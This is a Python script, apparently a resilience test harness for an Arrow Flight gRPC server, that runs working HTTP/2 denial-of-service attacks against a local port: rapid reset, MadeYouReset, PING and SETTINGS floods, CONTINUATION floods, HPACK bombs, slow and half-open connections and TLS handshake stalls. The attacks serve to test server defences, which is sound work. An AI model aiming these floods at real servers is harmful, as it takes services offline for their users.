"""Attacks on an open port, each a function of the port and how often; run as a program of its
own (attacks.py NAME PORT COUNT [WORD…]), which prints when and what they did. Frames are written by
hand (h2raw.py), many at a time, so that Python is not what limits them."""

import json
import os
import pathlib
import random
import resource
import select
import socket
import struct
import sys
import time

sys.path[:0] = [str(pathlib.Path(__file__).resolve().parents[1] / folder)
                for folder in ("rpc", "flight")]
import h2raw  # noqa: E402
from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RESET,  # noqa: E402
                   SETTINGS, frame, hpack, message)

PRIORITY, WINDOW_UPDATE = 2, 8
SERVICE = "/arrow.flight.protocol.FlightService/"
HELLO = h2raw.PREFACE + frame(SETTINGS, 0, 0)
SECONDS = 30
LEAST_S = float(os.environ.get("LEAST_S", 0))  # an attack goes on for so long, that good clients can notice it
began = []


def begin():
    """Call it when the attack itself begins."""
    began.append(time.monotonic())
    return began[0]


def request_headers(method="GetFlightInfo", *more):
    return hpack([(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method),
                  (":authority", "test"), ("te", "trailers"),
                  ("content-type", "application/grpc"), *more])


def connect(port):
    return socket.create_connection(("127.0.0.1", port), timeout=SECONDS)


def push(peer, data, reads=True):
    """Send all of it, or as much as the other side lets us; true if it was cut off."""
    peer.setblocking(False)
    view, until = memoryview(data), time.monotonic() + SECONDS
    while view:
        readable, writable, _ = select.select([peer] if reads else [], [peer], [], 0.2)
        try:
            if readable and not peer.recv(1 << 20):
                return True
            if writable:
                view = view[peer.send(view[:1 << 18]):]
                until = time.monotonic() + SECONDS
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            return True
        if not reads and not writable and time.monotonic() > until - SECONDS + 2:
            return False  # it waits for us to read: that is all that we wanted
        assert time.monotonic() < until, "the server neither reads nor ends the connection"
    return False


def is_ended(peer, seconds=SECONDS):
    """Read to the end; true if it comes in time."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        peer.settimeout(max(0.01, until - time.monotonic()))
        try:
            if not peer.recv(1 << 20):
                return True
        except TimeoutError:
            return False
        except OSError:
            return True
    return False


def abort(peer):
    """Close by a reset."""
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    peer.close()


def flood(port, count, per_connection, made, opening=b"", reads=True, ends=False):
    """Connections one after the other, each with what made(how many) gives, until `count`
    are offered. `ends`: the server must end each of them."""
    sent = connections = cut = 0
    data = HELLO + opening + made(per_connection)
    until = begin() + LEAST_S
    while sent < count or time.monotonic() < until:
        with connect(port) as peer:
            was_cut = push(peer, data, reads)
            if not was_cut and ends:
                was_cut = is_ended(peer, 5)
            elif not was_cut and reads:
                # It took everything, and must answer that it is there still.
                was_cut = not answers_ping(peer)
            cut += was_cut
        sent += per_connection
        connections += 1
    assert cut == connections or not ends, f"{connections - cut} connections go on"
    return {"sent": sent, "connections": connections, "cut": cut}


def answers_ping(peer):
    mark = struct.pack(">Q", 0xD00D)
    wanted = frame(PING, 1, 0, mark)
    if push(peer, frame(PING, 0, 0, mark)):
        return False
    tail, until = b"", time.monotonic() + SECONDS
    while time.monotonic() < until:
        try:
            if select.select([peer], [], [], 1)[0]:
                came = peer.recv(1 << 20)
                if not came:
                    return False
                if wanted in tail + came:
                    return True
                tail = (tail + came)[-16:]
        except OSError:
            return False
    raise AssertionError("the server does not answer and does not end the connection")


# ---- streams ------------------------------------------------------------------------------


def rapid_reset(port, count):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    headers, code = request_headers(), struct.pack(">I", 8)

    def made(number):
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers) +
                        frame(RESET, 0, stream, code)
                        for stream in range(1, 2 * number, 2))
    return flood(port, count, 2000, made, ends=True)


def rapid_reset_of_work(port, count):
    """Statements that are asked for whole and then reset, as fast as one connection may."""
    headers, code = request_headers(), struct.pack(">I", 8)
    import flightsql as sql
    body = message(sql.message("FlightDescriptor", type=2, cmd=sql.wrap(
        "CommandStatementQuery", query="SELECT a.v, count(*) FROM generate_series(1, 10) AS a(v)"
        " JOIN generate_series(1, 10) AS b(v) USING (v) GROUP BY 1 ORDER BY 2"))
        .SerializeToString())

    def made(number):
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers) +
                        frame(DATA, END_STREAM, stream, body) +
                        frame(RESET, 0, stream, code)
                        for stream in range(1, 2 * number, 2))
    return flood(port, count, 900, made)


def made_resets(port, count):
    """Streams that the server must reset, because of a wrong frame (CVE-2025-8671)."""
    headers = request_headers()
    wrong = struct.pack(">I", 0)  # a window update of nothing

    def made(number):
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers) +
                        frame(WINDOW_UPDATE, 0, stream, wrong)
                        for stream in range(1, 2 * number, 2))
    return flood(port, count, 2000, made, ends=True)


def open_streams(port, count):
    """Streams that are opened and left alone, far more than are allowed."""
    headers = request_headers()

    def made(number):
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers)
                        for stream in range(1, 2 * number, 2))
    return flood(port, count, 2000, made)


# ---- frames -------------------------------------------------------------------------------


def continuation(port, count):
    """Headers that never end: `count` bytes of CONTINUATION frames."""
    opening = frame(HEADERS, 0, 1, request_headers())
    piece = hpack([("x-filler", "x" * 100)]) * 140
    return flood(port, count, 64 * len(piece),
                 lambda number: frame(CONTINUATION, 0, 1, piece) * (number // len(piece)),
                 opening, ends=True)


def empty_continuation(port, count):
    """The same with frames of nothing."""
    return flood(port, count, 10000, lambda number: frame(CONTINUATION, 0, 1) * number,
                 frame(HEADERS, 0, 1, request_headers()), ends=True)


def ping(port, count):
    """PINGs whose answers are not read (CVE-2019-9512)."""
    return flood(port, count, 200_000, lambda number: frame(PING, 0, 0, b"12345678") * number,
                 reads=False)


def ping_and_read(port, count):
    return flood(port, count, 20_000, lambda number: frame(PING, 0, 0, b"12345678") * number)


def settings(port, count):
    """SETTINGS whose acknowledgements are not read (CVE-2019-9515)."""
    return flood(port, count, 200_000,
                 lambda number: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * number,
                 reads=False)


def settings_and_read(port, count):
    return flood(port, count, 20_000,
                 lambda number: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * number)


def empty_data(port, count):
    """Frames of no data in a stream that does not end (CVE-2019-9518)."""
    return flood(port, count, 20_000, lambda number: frame(DATA, 0, 1) * number,
                 frame(HEADERS, END_HEADERS, 1, request_headers("DoPut")))


def padded_data(port, count):
    """Frames of padding alone: they use windows up and bring nothing."""
    return flood(port, count, 20_000,
                 lambda number: frame(DATA, 8, 1, bytes([200]) + bytes(200)) * number,
                 frame(HEADERS, END_HEADERS, 1, request_headers("DoPut")))


def priority(port, count):
    """PRIORITY for streams that do not exist, each below the one before (CVE-2019-9513)."""
    def made(number):
        return b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", stream - 2, 255))
                        for stream in range(3, 2 * number + 3, 2))
    return flood(port, count, 20_000, made)


def window_updates(port, count):
    return flood(port, count, 20_000,
                 lambda number: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * number)


def unknown_frames(port, count):
    """Frames of a kind that nobody knows must be passed over."""
    return flood(port, count, 20_000, lambda number: frame(0xBE, 255, 0, b"x" * 50) * number)


# ---- headers ------------------------------------------------------------------------------


def integer(value, bits, first=0):
    """RFC 7541, section 5.1."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def indexed(name, value):
    """A literal that goes into the dynamic table."""
    return (b"\x40" + integer(len(name), 7) + name + integer(len(value), 7) + value)


def bomb(name, value, times):
    """A field once, and then by its number: one byte each."""
    return indexed(name, value) + b"\xbe" * times


def hpack_bomb(port, count):
    """A few bytes on the wire that stand for very many (CVE-2016-6581)."""
    block = request_headers() + bomb(b"x-bomb", b"x" * 4000, 16000)
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, block[:16384])
    return flood(port, count, 50, lambda number: first * 1 + b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, request_headers() + b"\xbe" * 16000)
        for stream in range(3, 2 * number + 1, 2)))


def hpack_small_bomb(port, count):
    """The same with the shortest fields: what counts is how many there are."""
    block = request_headers() + bomb(b"x", b"", 16000)
    first = frame(HEADERS, END_HEADERS, 1, block[:16384])
    return flood(port, count, 200, lambda number: first + b"".join(
        frame(HEADERS, END_HEADERS, stream, request_headers() + b"\xbe" * 16000)
        for stream in range(3, 2 * number + 1, 2)))


def empty_headers(port, count):
    """Fields without a name and a value (CVE-2019-9516)."""
    return flood(port, count, 200, lambda number: b"".join(
        frame(HEADERS, END_HEADERS, stream, request_headers() + b"\0\0\0" * 3000)
        for stream in range(1, 2 * number, 2)))


def table_sizes(port, count):
    """A dynamic table that is filled, emptied and filled again all the time."""
    block = request_headers() + b"".join(
        indexed(b"x-%d" % i, b"y" * 1000) for i in range(12))
    return flood(port, count, 500, lambda number: b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream,
              b"\x20" + integer(4096, 5, 0x20) + block)
        for stream in range(1, 2 * number, 2)))


def odd_te(port, count):
    """A wrong `te` beside a long header, which once ended a gRPC server (CVE-2023-1428)."""
    block = hpack([(":method", "POST"), (":scheme", "http"), (":path", SERVICE + "DoGet"),
                   (":authority", "test"), ("te", "x"), ("content-type", "application/grpc"),
                   ("x-long", "y" * 8600)])
    return flood(port, count, 100, lambda number: b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        for stream in range(1, 2 * number, 2)))


# ---- connections --------------------------------------------------------------------------


def connect_abort(port, count):
    """Connections that are reset at once, some after a word."""
    words = [b"", b"P", h2raw.PREFACE, HELLO, HELLO + frame(HEADERS, 0, 1, b"\x83"),
             HELLO + frame(HEADERS, END_HEADERS, 1, request_headers()), b"GET / HTTP/1.1\r\n\r\n",
             b"\x16\x03\x01\x02\x00\x01\x00"]
    until, number = begin() + LEAST_S, 0
    while number < count or time.monotonic() < until:
        number += 1
        peer = connect(port)
        try:
            peer.send(words[number % len(words)])
        except OSError:
            pass
        abort(peer)
    return {"connections": number}


SLOW = ["silent", "half a preface", "no settings", "no call", "headers", "message", "half open"]


def slow(port, count, *words):
    """`count` connections at the same time that dribble or say nothing; how many the server
    has ended within the time."""
    seconds = float(words[0])
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    headers = request_headers()
    whole = frame(HEADERS, END_HEADERS, 1, headers)
    says = {"silent": (b"", b""), "half a preface": (h2raw.PREFACE[:5], h2raw.PREFACE[5:-1]),
            "no settings": (h2raw.PREFACE, b""), "no call": (HELLO, b""),
            "headers": (HELLO, frame(HEADERS, END_HEADERS, 1, headers * 20)),
            "message": (HELLO + whole, frame(DATA, 0, 1, message(b"x" * 10000))),
            "half open": (HELLO, b"")}
    peers, ended, watch = {}, 0, select.epoll()
    start = begin()
    for number in range(count):
        kind = SLOW[number % len(SLOW)]
        peer = connect(port)
        first, rest = says[kind]
        peer.sendall(first)
        if kind == "half open":
            peer.shutdown(socket.SHUT_WR)
        peer.setblocking(False)
        watch.register(peer, select.EPOLLIN | select.EPOLLHUP)
        peers[peer.fileno()] = [peer, kind, rest, 0]
    next_byte = start
    ended_by, last = {}, 0.0
    while peers and time.monotonic() < start + seconds:
        for number, _ in watch.poll(0.05):
            peer, kind, _, _ = peers[number]
            try:
                over = not peer.recv(65536)
            except BlockingIOError:
                over = False
            except OSError:
                over = True
            if over:
                watch.unregister(number)
                peer.close()
                del peers[number]
                ended += 1
                ended_by[kind] = ended_by.get(kind, 0) + 1
                last = time.monotonic() - start
        if time.monotonic() >= next_byte:  # one byte each, twice in a second
            next_byte += 0.5
            for entry in peers.values():
                peer, _, rest, at = entry
                if at < len(rest) - 1:
                    try:
                        entry[3] += peer.send(rest[at:at + 1])
                    except OSError:
                        pass
    left = {}
    for peer, kind, _, _ in peers.values():
        left[kind] = left.get(kind, 0) + 1
        peer.close()
    return {"connections": count, "ended": ended, "last_s": round(last, 1),
            **{f"left: {kind}": number for kind, number in left.items()}}


def tls_stops(port, count):
    """Connections to a TLS port that stop anywhere within the handshake, or say something
    else; how many the server has ended within 15 s."""
    import ssl
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    session = context.wrap_bio(incoming, outgoing)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    words = [b"", HELLO, b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\xff\xff" + bytes(1000),
             hello[:1] + bytes(len(hello)), hello, hello * 2]
    words += [hello[:at] for at in range(1, len(hello), 17)]
    begin()
    peers = []
    for number in range(count):
        peers.append(connect(port))
        try:
            peers[-1].sendall(words[number % len(words)])
        except OSError:
            pass
    until = time.monotonic() + 15
    ended = sum(is_ended(peer, max(0.01, until - time.monotonic())) for peer in peers)
    return {"connections": count, "ended": ended}


def many(port, count, *words):
    """`count` connections held at the same time until the input ends; how many of them the
    server has closed at once."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    peers, refused = [], 0
    begin()
    for _ in range(count):
        peer = socket.socket()
        peer.setblocking(False)  # the system's queue may be full
        peer.connect_ex(("127.0.0.1", port))
        try:
            peer.send(HELLO)
        except OSError:
            refused += 1
        peers.append(peer)
    if words:
        print("held", flush=True)
        sys.stdin.read()
    for peer in peers:
        abort(peer)
    return {"connections": len(peers), "refused": refused}


def main():
    os.nice(19)
    random.seed(6)
    name, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    told = globals()[name](port, count, *sys.argv[4:])
    json.dump({"began": began, "ended": time.monotonic(), "told": told}, sys.stdout)


if __name__ == "__main__":
    main()
